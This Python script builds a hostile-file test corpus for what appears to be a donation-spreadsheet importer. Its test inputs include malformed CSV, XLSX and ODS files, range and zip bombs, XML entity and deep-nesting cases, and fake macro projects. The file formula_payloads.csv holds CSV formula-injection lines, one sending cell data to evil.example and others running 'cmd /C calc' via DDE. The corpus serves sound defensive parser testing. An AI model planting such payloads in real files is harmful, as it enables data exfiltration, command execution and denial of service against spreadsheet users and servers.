"""Writes the hostile-file corpus. Run by hand (LibreOffice is needed for the cached formula values);
the files it writes are committed, so tests and CI never run it.

    .venv/bin/python hub/core/tests/corpus/make_corpus.py
"""

import datetime
import io
import shutil
import subprocess
import tempfile
import zipfile
from pathlib import Path

import openpyxl
from openpyxl.styles import Font

HERE = Path(__file__).resolve().parent
HEADER = ["Spender", "Datum", "Kategorie", "Beschreibung", "Wert", "Währung"]
ROWS = [
    ["Museum Wien", "01.03.2024", "Raum", "Saal für den Workshop", "1.234,56", "EUR"],
    ["Bäckerei Müller", "15.03.2024", "Verpflegung", "Kaffee und Kuchen", "89,90", "EUR"],
    ["Библиотека Москвы", "2024-04-02", "Ehrenamt", "Führung", "300", "EUR"],
]


def text(name: str, content: str, encoding: str = "utf-8", newline: str = "\r\n") -> None:
    (HERE / name).write_bytes(content.replace("\n", newline).encode(encoding))


def csv_text(rows, delimiter=",") -> str:
    import csv

    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\n")
    writer.writerows(rows)
    return out.getvalue()


def libreoffice(source: Path, fmt: str, target: Path) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        subprocess.run(  # noqa: S603
            ["soffice", "--headless", "--convert-to", fmt, "--outdir", tmp, str(source)],  # noqa: S607
            check=True,
            capture_output=True,
        )
        produced = next(Path(tmp).iterdir())
        shutil.move(produced, target)


def office_workbook(path: Path) -> None:
    """A sheet the way a chapter's office writes one: title rows, merged cells, formulas, a total."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Sachspenden 2024"
    ws["A1"] = "Wikimedia Testland – Sachspenden 2024"
    ws["A1"].font = Font(bold=True, size=14)
    ws.merge_cells("A1:H1")
    ws["A2"] = "Stand: 31.12.2024, erstellt von der Geschäftsstelle"
    ws.merge_cells("A2:H2")
    ws.append([])
    ws.append(
        ["Spender", "Datum", "Kategorie", "Beschreibung", "Menge", "Einheit", "Wert", "Währung"]
    )
    ws.append(
        [
            "Österreichische Nationalbibliothek",
            "01.03.2024",
            "Raum",
            "Saal",
            2,
            "Tage",
            "1.200,00",
            "EUR",
        ]
    )
    ws.append(
        [
            "Bäckerei Müller",
            datetime.date(2024, 3, 15),
            "Verpflegung",
            "Kaffee",
            25,
            "Personen",
            "=E6*4.5",
            "EUR",
        ]
    )
    ws.append(
        ["Bäckerei Müller", 45380, "Verpflegung", "Mittagessen", 25, "Personen", "=E7*12", "EUR"]
    )
    ws.append(
        ["Ehrenamtliche", "2024-05-04", "Ehrenamt", "Fotowanderung", 40, "Stunden", "=E8*20", "EUR"]
    )
    ws.merge_cells("A8:A9")
    ws.append([None, "5. Mai 2024", "Ehrenamt", "Nachbearbeitung", 12, "Stunden", "=E9*20", "EUR"])
    ws.append(
        ["Музей истории Киева", "1/6/2024", "Lizenz", "Bildrechte", None, None, "€ 2.500", "EUR"]
    )
    ws.append([])
    ws.append(["Summe", None, None, None, None, None, "=SUM(G5:G10)", "EUR"])
    wb.save(path)


SHEET_XML = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)
HEADER_ROW = (
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>Spender</t></is></c>'
    b'<c r="B1" t="inlineStr"><is><t>Wert</t></is></c></row>'
)


def sheet_xml(rows: bytes, before: bytes = b"", prolog: bytes = b"") -> bytes:
    return (
        prolog
        + SHEET_XML
        + before
        + b"<sheetData>"
        + HEADER_ROW
        + rows
        + b"</sheetData></worksheet>"
    )


def with_sheet(name: str, sheet: bytes) -> None:
    """plain_openpyxl.xlsx with its sheet's XML replaced: what no library would write."""
    with (
        zipfile.ZipFile(HERE / "plain_openpyxl.xlsx") as src,
        zipfile.ZipFile(HERE / name, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            data = src.read(info)
            dst.writestr(
                info.filename, sheet if info.filename == "xl/worksheets/sheet1.xml" else data
            )


ODS_NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)
ODS_HEADER = (
    '<table:table-row><table:table-cell office:value-type="string"><text:p>Spender</text:p>'
    '</table:table-cell><table:table-cell office:value-type="string"><text:p>Wert</text:p>'
    "</table:table-cell></table:table-row>"
)


def ods(name: str, tables: list[tuple[str, str]]) -> None:
    """An ODS file of the given tables (name, rows after the header row), written by hand."""
    body = "".join(
        f'<table:table table:name="{title}">{ODS_HEADER}{rows}</table:table>'
        for title, rows in tables
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODS_NAMESPACES} '
        f'office:version="1.3"><office:body><office:spreadsheet>{body}</office:spreadsheet>'
        "</office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
        '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type='
        '"application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
        'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    with zipfile.ZipFile(HERE / name, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED
        )
        archive.writestr("content.xml", content)
        archive.writestr("META-INF/manifest.xml", manifest)


def range_bombs() -> None:
    """Sheets whose few cells span a range no reader may allocate (each under 10 KB)."""
    for name, far in (("range_bomb.xlsx", "XFD1048576"), ("range_cv300000.xlsx", "CV300000")):
        wb = openpyxl.Workbook()
        wb.active.title = "Data"
        wb.active.append(HEADER)
        wb.active["A2"] = "Museum Wien"
        wb.active[far] = "x"
        wb.save(HERE / name)
    # cells without references: a spreadsheet places each after the one before
    unreferenced = b'<row r="1048576">' + b"<c><v>1</v></c>" * 300 + b"</row>"
    with_sheet("range_bomb_unreferenced.xlsx", sheet_xml(unreferenced))
    # a second reference in a cell tag, which calamine reads (the last) and a scan may not
    with_sheet(
        "second_reference.xlsx", sheet_xml(b'<row r="2"><c r="A2" r="CV300000"><v>1</v></c></row>')
    )
    # a sheet that claims all of Excel's grid but holds three rows
    rows = b"".join(
        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>Museum</t></is></c><c r="B%d"><v>%d</v></c></row>'
        % (n, n, n, n)
        for n in (2, 3, 4)
    )
    with_sheet("lying_dimension.xlsx", sheet_xml(rows, before=b'<dimension ref="A1:XFD1048576"/>'))
    # entities: refused before any parser expands them
    lol = b'<!DOCTYPE worksheet [<!ENTITY a "XFD1048576">]>'
    with_sheet(
        "entity_reference.xlsx",
        sheet_xml(
            b'<row r="2"><c r="&a;"><v>1</v></c></row>', prolog=b'<?xml version="1.0"?>' + lol
        ).replace(b'<?xml version="1.0" encoding="UTF-8"?>\n', b"", 1),
    )
    # ODS: a filled cell repeated over Excel's whole grid; an empty one before a far cell; sheets
    # each within the limit but not together (calamine reads every sheet of an ODS file at once)
    filled = '<table:table-cell office:value-type="float" office:value="1"'
    ods(
        "repeat_bomb.ods",
        [
            (
                "Data",
                '<table:table-row table:number-rows-repeated="1048575">'
                f'{filled} table:number-columns-repeated="16384"/></table:table-row>',
            )
        ],
    )
    ods(
        "repeat_far.ods",
        [
            (
                "Data",
                '<table:table-row table:number-rows-repeated="300000"><table:table-cell/>'
                "</table:table-row><table:table-row><table:table-cell "
                f'table:number-columns-repeated="99"/>{filled}/></table:table-row>',
            )
        ],
    )
    block = (
        f'<table:table-row table:number-rows-repeated="2000">{filled} '
        'table:number-columns-repeated="1000"/></table:table-row>'
    )
    ods("sheets_together.ods", [(f"Teil {n}", block) for n in (1, 2, 3)])
    # LibreOffice's padding to the sheet's edge: empty repeated cells and rows, read as nothing
    padding = (
        '<table:table-row><table:table-cell office:value-type="string"><text:p>Museum</text:p>'
        '</table:table-cell><table:table-cell office:value-type="float" office:value="5">'
        '<text:p>5</text:p></table:table-cell><table:table-cell table:style-name="ce1" '
        'table:number-columns-repeated="16382"/></table:table-row>'
        '<table:table-row table:number-rows-repeated="1048574"><table:table-cell '
        'table:number-columns-repeated="16384"/></table:table-row>'
    )
    ods("edge_padding.ods", [("Data", padding)])
    # deep XML, below the zip-bomb ratio: every parser on the way must stay iterative
    nested = b"<x>" * 35_000 + b"</x>" * 35_000
    with_sheet("deep_xml.xlsx", sheet_xml(b'<row r="2"><c r="A2"><v>1</v></c></row>' + nested))
    spans = "<text:span>" * 35_000 + "Museum" + "</text:span>" * 35_000
    ods(
        "deep_xml.ods",
        [
            (
                "Data",
                '<table:table-row><table:table-cell office:value-type="string">'
                f"<text:p>{spans}</text:p></table:table-cell></table:table-row>",
            )
        ],
    )


def mixed_encoding() -> None:
    """UTF-8, then a row pasted from a Windows-1252 file: the bytes of neither alone."""
    head = csv_text([HEADER, ROWS[0], ROWS[1]]).replace("\n", "\r\n").encode("utf-8")
    tail = csv_text([["Café Müller", "20.03.2024", "Verpflegung", "Kuchen", "12,00", "EUR"]])
    (HERE / "mixed_encoding.csv").write_bytes(head + tail.replace("\n", "\r\n").encode("cp1252"))


def main() -> None:
    header_rows = [HEADER, *ROWS]
    text("utf8.csv", csv_text(header_rows))
    text("utf8_bom.csv", "\ufeff" + csv_text(header_rows, ";"))
    text("cp1252.csv", csv_text(header_rows[:3], ";"), encoding="cp1252")
    text("utf16_bom_tabs.csv", "\ufeff" + csv_text(header_rows, "\t"), encoding="utf-16-le")
    text(
        "quoted_newlines.csv",
        csv_text(
            [
                HEADER,
                ["Museum Wien", "01.03.2024", "Raum", 'Saal,\nzweiter Stock\n"Ost"', "10", "EUR"],
                ROWS[1],
            ]
        ),
    )
    text("duplicate_headers.csv", csv_text([["Spender", "Wert", "wert"], ["A", "1", "2"]]))
    text("missing_header.csv", csv_text([["Spender", "", "Wert"], ["A", "oops", "2"]]))
    text(
        "huge_cell.csv",
        csv_text([HEADER, ["A", "01.03.2024", "Raum", "x" * 1_048_576, "1", "EUR"], ROWS[1]]),
    )
    text(
        "formula_payloads.csv",
        csv_text(
            [
                HEADER,
                [
                    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
                    "01.03.2024",
                    "Raum",
                    "x",
                    "1",
                    "EUR",
                ],
                ["Museum", "01.03.2024", "Raum", "=cmd|' /C calc'!A0", "1", "EUR"],
                ["Museum", "01.03.2024", "Raum", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "EUR"],
                ROWS[1],
            ]
        ),
    )
    text(
        "title_and_total.csv",
        csv_text(
            [["Sachspenden 2024"], [], HEADER, *ROWS, [], ["Summe", "", "", "", "1.624,46", ""]],
            ";",
        ),
    )
    (HERE / "empty.csv").write_bytes(b"")
    (HERE / "empty.xlsx").write_bytes(b"")
    text("blank_lines.csv", "\n\n ; ; \n")
    (HERE / "html_as.xlsx").write_bytes(
        b"<!DOCTYPE html><html><body><table><tr><td>Spender</td><td>Wert</td></tr></table></body></html>"
    )
    (HERE / "xls_as.xlsx").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000)
    (HERE / "png_as.csv").write_bytes(
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4
    )

    # A real workbook, then the same with a macro project inside (named .xlsx and .xlsm).
    wb = openpyxl.Workbook()
    wb.active.append(HEADER)
    for row in ROWS:
        wb.active.append(row)
    plain = HERE / "plain_openpyxl.xlsx"
    wb.save(plain)
    for name in ("macro_inside.xlsx", "macro.xlsm"):
        with (
            zipfile.ZipFile(plain) as src,
            zipfile.ZipFile(HERE / name, "w", zipfile.ZIP_DEFLATED) as dst,
        ):
            for info in src.infolist():
                dst.writestr(info, src.read(info))
            dst.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0fake VBA project")

    # A zip bomb named .xlsx: 60 MB of zeros packed into ~60 KB.
    with zipfile.ZipFile(
        HERE / "zip_bomb.xlsx", "w", zipfile.ZIP_DEFLATED, compresslevel=9
    ) as bomb:
        with zipfile.ZipFile(plain) as src:
            for info in src.infolist():
                if info.filename != "xl/worksheets/sheet1.xml":
                    bomb.writestr(info, src.read(info))
        with bomb.open("xl/worksheets/sheet1.xml", "w") as sheet:
            chunk = b"\x00" * (1 << 20)
            for _ in range(60):
                sheet.write(chunk)

    # Formulas written by a library are saved without their computed values.
    wb = openpyxl.Workbook()
    wb.active.append(["Spender", "Datum", "Kategorie", "Wert", "Währung"])
    wb.active.append(["Museum", "01.03.2024", "Raum", "=2*50", "EUR"])
    wb.save(HERE / "uncached_formula.xlsx")

    range_bombs()
    mixed_encoding()

    # The office workbook, saved by LibreOffice so formulas carry their computed values.
    with tempfile.TemporaryDirectory() as tmp:
        draft = Path(tmp) / "office.xlsx"
        office_workbook(draft)
        libreoffice(draft, "xlsx:Calc MS Excel 2007 XML", HERE / "office.xlsx")
        libreoffice(draft, "ods", HERE / "office.ods")


if __name__ == "__main__":
    main()
